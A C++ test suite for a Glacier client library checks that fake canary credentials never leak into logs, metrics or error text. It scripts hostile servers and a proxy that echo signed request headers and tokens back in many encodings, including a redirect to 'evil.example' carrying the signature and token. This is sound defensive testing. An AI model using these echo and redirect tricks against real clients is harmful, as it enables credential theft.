// No secret of a client stands in what it shows: neither in log lines, JSON lines and metrics at their most detailed,
// nor in errors, nor in what the emulator tells of requests. Key and token are canaries that occur nowhere else.

#include "end_to_end/all_operations.hpp"
#include "support/scripted_server.hpp"

#include <glacier/as_result.hpp>
#include <glacier/json_observer.hpp>
#include <glacier/log_observer.hpp>
#include <glacier/observer_list.hpp>
#include <glacier/prometheus_observer.hpp>

#include <boost/json/object.hpp>
#include <boost/json/serialize.hpp>
#include <boost/test/data/monomorphic.hpp>
#include <boost/test/data/test_case.hpp>
#include <boost/test/unit_test.hpp>

#include <algorithm>
#include <atomic>
#include <cctype>
#include <chrono>
#include <memory>
#include <mutex>
#include <optional>
#include <ostream>
#include <string>
#include <string_view>
#include <vector>

using namespace glacier;
using namespace std::string_literals;

namespace {

std::string const key_id = "AKIACANARY0000000001";
std::string const key = "canaryKEY/of+40/characters/abcdefghijklmn";

/// As long as the real ones are.
std::string make_token()
{
    std::string token = "canaryTOKEN/";
    while (token.size() < 400)
        token += "0a+B/9" + std::to_string(token.size());
    return token + "==";
}

std::string const token = make_token();

credentials canary(std::optional<timestamp> expiration = std::nullopt)
{
    credentials identity(key_id, secret_string(key));
    identity.session_token = secret_string(token);
    identity.expiration = expiration;
    return identity;
}

/// What is shown, from any thread.
class shown_texts {
public:
    void add(std::string_view text)
    {
        std::lock_guard const lock(mutex_);
        text_ += text;
        text_ += '\n';
    }

    std::string text() const
    {
        std::lock_guard const lock(mutex_);
        return text_;
    }

private:
    mutable std::mutex mutex_;
    std::string text_;
};

struct secrets_fixture : test::end_to_end_fixture {
    secrets_fixture()
    {
        identities = {canary()};
        on_request = [kept = shown](emulator_request const& request) {
            for (std::string const& text : {request.method, request.target, request.operation,
                                            request.request_id, request.failure, request.fault})
                kept->add(text);
        };
        start();
    }

    ~secrets_fixture() { emulator.reset(); }

    client watched_client(client_config config)
    {
        auto const keep = [kept = shown](std::string_view line) { kept->add(line); };
        config.observer = observer_list(
            {log_observer(keep, event_level::trace), json_observer(keep, event_level::trace), metrics});
        if (!config.credentials)
            config.credentials = static_credentials(canary());
        return client(context.get_executor(), std::move(config));
    }

    /// With the canaries.
    client_config emulator_config() const
    {
        client_config made = config();
        made.credentials = nullptr;
        return made;
    }

    template <class T>
    bool succeeds(asio::awaitable<T> operation)
    {
        auto const outcome = run(as_result(std::move(operation)));
        if (!outcome.has_error())
            return true;
        error_details const& details = outcome.error().details();
        for (std::string const& text :
             {std::string(outcome.error().what()), details.message, details.service_code, details.request_id,
              details.resource, outcome.error().code().message()})
            shown->add(text);
        return false;
    }

    /// The beginning of a secret is enough for a fault, in whatever encoding; so no `/` and `+` are in it.
    void check(std::vector<std::string> const& more = {}) const
    {
        std::string const text = shown->text() + metrics->text();
        std::vector<std::string> forbidden{"canaryKEY", "canaryTOKEN",
                                           "Signature=", "AWS4-HMAC-SHA256 Credential"};
        forbidden.insert(forbidden.end(), more.begin(), more.end());
        for (std::string const& secret : forbidden) {
            auto const found = text.find(secret);
            if (found != std::string::npos)
                BOOST_ERROR(secret + " is shown: " + text.substr(found < 300 ? 0 : found - 300, 600));
        }
    }

    std::shared_ptr<shown_texts> shown = std::make_shared<shown_texts>();
    std::shared_ptr<prometheus_observer> metrics = std::make_shared<prometheus_observer>();
};

/// A request as the hostile server got it.
struct received {
    std::string head;

    std::string header(std::string const& name) const
    {
        std::string lower = head;
        std::transform(lower.begin(), lower.end(), lower.begin(),
                       [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
        auto const found = lower.find("\r\n" + name + ": ");
        if (found == std::string::npos)
            return {};
        auto const begin = found + name.size() + 4;
        return head.substr(begin, head.find("\r\n", begin) - begin);
    }

    std::string authorization() const { return header("authorization"); }
    std::string signature() const { return authorization().substr(authorization().rfind('=') + 1); }
};

std::string answer(std::string const& status, std::string const& body, std::string const& headers = {})
{
    return "HTTP/1.1 " + status + "\r\n" + headers + "Content-Length: " + std::to_string(body.size()) +
           "\r\nConnection: close\r\n\r\n" + body;
}

std::string error_json(std::string const& code, std::string const& message)
{
    boost::json::object object;
    object["code"] = code;
    object["message"] = message;
    return boost::json::serialize(object);
}

std::string replaced(std::string text, char what, std::string const& by)
{
    for (auto found = text.find(what); found != std::string::npos; found = text.find(what, found + by.size()))
        text.replace(found, 1, by);
    return text;
}

/// How a server sends secrets back.
struct hostile_answer {
    char const* name;
    std::string (*make)(received const&);
};

std::ostream& operator<<(std::ostream& stream, hostile_answer const& each)
{
    return stream << each.name;
}

std::vector<hostile_answer> const hostile_answers{
    {"in the message",
     [](received const& r) {
         return answer("403 Forbidden",
                       error_json("AccessDeniedException", r.authorization() + ", token " + token));
     }},
    {"in the message, with escaped slashes",
     [](received const& r) {
         return answer("403 Forbidden",
                       replaced(error_json("AccessDeniedException", r.authorization() + token), '/', "\\/"));
     }},
    {"in the code", [](received const&) { return answer("400 Bad Request", error_json(token, token)); }},
    {"the whole head, in HTML",
     [](received const& r) {
         return answer("502 Bad Gateway", "<html><body><pre>" + r.head + "</pre></body></html>");
     }},
    {"the whole head, as text", [](received const& r) { return answer("500 Oops", r.head); }},
    {"in the message, in escapes",
     [](received const&) {
         std::string escaped;
         for (char const c : token)
             escaped += "\\u00" + std::string(1, "0123456789abcdef"[c / 16]) + "0123456789abcdef"[c % 16];
         return answer("403 Forbidden",
                       "{\"code\":\"AccessDeniedException\",\"message\":\"" + escaped + "\"}");
     }},
    {"cut by the server",
     [](received const&) {
         return answer("403 Forbidden", error_json("AccessDeniedException", "token " + token.substr(0, 100)));
     }},
    {"where the excerpt is cut",
     [](received const&) { return answer("500 Oops", std::string(150, 'x') + " " + token); }},
    {"in headers",
     [](received const& r) {
         return answer("403 Forbidden", "",
                       "x-amzn-requestid: " + token + "\r\nx-amzn-errortype: " + r.signature() + "\r\n");
     }},
    {"in a redirection",
     [](received const& r) {
         return answer("307 Temporary Redirect", "",
                       "Location: https://evil.example/?a=" + r.signature() + "&t=" +
                           replaced(replaced(replaced(token, '/', "%2F"), '+', "%2B"), '=', "%3D") + "\r\n");
     }},
    {"in an odd success", [](received const& r) { return answer("203 OK", r.head); }},
    {"in a success that is not JSON", [](received const& r) { return answer("200 OK", r.head); }},
    {"in members of a success",
     [](received const& r) {
         boost::json::object object;
         object["CreationDate"] = token;
         object["VaultList"] = r.authorization();
         return answer("200 OK", boost::json::serialize(object), "x-amzn-requestid: " + token + "\r\n");
     }},
    {"in a range",
     [](received const& r) {
         return answer("206 Partial Content", "x", "Content-Range: " + r.authorization() + "\r\n");
     }},
    {"in a tree hash",
     [](received const& r) {
         return answer("201 Created", "",
                       "x-amz-sha256-tree-hash: " + r.signature() + "\r\nx-amz-archive-id: " + token +
                           "\r\n");
     }},
    {"instead of HTTP", [](received const& r) { return token + " " + r.authorization() + "\r\n\r\n"; }},
};

} // namespace

BOOST_FIXTURE_TEST_SUITE(secrets, secrets_fixture)

// All that goes well.
BOOST_AUTO_TEST_CASE(all_operations)
{
    test::carry_out_all_operations(*this, watched_client(emulator_config()));
    check();
    // Much was shown.
    BOOST_TEST(shown->text().find("info operation_ended operation=CompleteVaultLock ") != std::string::npos);
    BOOST_TEST(shown->text().find("\"event\":\"attempt_ended\",\"operation\":\"UploadArchive\"") !=
               std::string::npos);
    BOOST_TEST(
        metrics->text().find("glacier_operations_total{operation=\"GetJobOutput\",outcome=\"success\"}") !=
        std::string::npos);
}

// Refusals of the service: its words about a wrong signature quote what was signed, the token included.
BOOST_AUTO_TEST_CASE(refused_credentials)
{
    credentials wrong = canary();
    wrong.secret_access_key = secret_string("canaryKEY/that/is/wrong");
    credentials without_token = canary();
    without_token.session_token = secret_string();
    credentials other_token = canary();
    other_token.session_token = secret_string("canaryTOKEN/of/somebody/else");
    credentials unknown = canary();
    unknown.access_key_id = "AKIACANARY0000000002";
    for (credentials const& each : {wrong, without_token, other_token, unknown}) {
        client_config config = emulator_config();
        config.credentials = static_credentials(each);
        client const sut = watched_client(std::move(config));
        BOOST_TEST(!succeeds(sut.describe_vault(describe_vault_request("photos"))));
        BOOST_TEST(!succeeds(sut.upload_archive(upload_archive_request("photos", body("bytes"s)))));
    }
    check();
}

BOOST_AUTO_TEST_CASE(expired_token)
{
    identities = {canary(timestamp(std::chrono::seconds(1)))};
    start();
    BOOST_TEST(!succeeds(watched_client(emulator_config()).list_vaults()));
    check();
}

// A server that is not the service, and sends back what it got.
BOOST_DATA_TEST_CASE(echoing_server, boost::unit_test::data::make(hostile_answers))
{
    std::mutex mutex;
    std::vector<std::string> signatures;
    test::scripted_server server([&](test::peer& client) {
        received request;
        request.head = client.read_head();
        client.read(test::content_length_of(request.head));
        {
            std::lock_guard const lock(mutex);
            signatures.push_back(request.signature());
        }
        client.write(sample.make(request));
        client.finish();
    });
    client_config config;
    config.region = "us-east-1";
    config.endpoint = "http://127.0.0.1:" + std::to_string(server.port());
    config.retry.attempts_max = 2;
    config.retry.delay_base = std::chrono::milliseconds(1);
    client const sut = watched_client(std::move(config));

    succeeds(sut.describe_vault(describe_vault_request("photos")));
    succeeds(sut.delete_vault(delete_vault_request("photos")));
    succeeds(sut.list_vaults());
    succeeds(sut.upload_archive(upload_archive_request("photos", body("bytes"s))));
    get_job_output_request output("photos", "job");
    output.range = byte_range(0, 9);
    succeeds(sut.get_job_output(std::move(output)));

    std::lock_guard const lock(mutex);
    BOOST_TEST(signatures.size() >= 5U);
    for (std::string const& signature : signatures)
        BOOST_TEST(signature.size() == 64U);
    check(signatures);
}

// A proxy that sends back what it got, its own password included: as the answer to a plain request, and in its words
// when it is to open a tunnel.
BOOST_AUTO_TEST_CASE(echoing_proxy)
{
    std::string const password = "canaryPROXY password";
    // "canaryUSER:canaryPROXY password" in base64.
    std::string const encoded = "Y2FuYXJ5VVNFUjpjYW5hcnlQUk9YWSBwYXNzd29yZA==";
    std::atomic<int> with_password{0};
    test::scripted_server proxy([&](test::peer& client) {
        received const request{client.read_head()};
        bool const tunnel = request.head.starts_with("CONNECT ");
        client.read(test::content_length_of(request.head));
        if (request.header("proxy-authorization") == "Basic " + encoded)
            ++with_password;
        std::string const words = password + " " + request.header("proxy-authorization");
        client.write(tunnel ? answer("403 " + words, request.head, "X-Echo: " + words + "\r\n")
                            : answer("502 Bad Gateway", words + "\r\n" + request.head));
        client.finish();
    });
    for (std::string const scheme : {"http", "https"}) {
        client_config config;
        config.region = "us-east-1";
        config.endpoint = scheme + "://glacier.nowhere.invalid";
        config.retry = retry_settings::none();
        config.proxy.emplace("127.0.0.1", proxy.port());
        config.proxy->user = "canaryUSER";
        config.proxy->password = secret_string(password);
        client const sut = watched_client(std::move(config));
        BOOST_TEST(!succeeds(sut.describe_vault(describe_vault_request("photos"))));
    }
    BOOST_TEST(with_password == 2);
    check({"canaryPROXY", encoded});
}

BOOST_AUTO_TEST_SUITE_END()
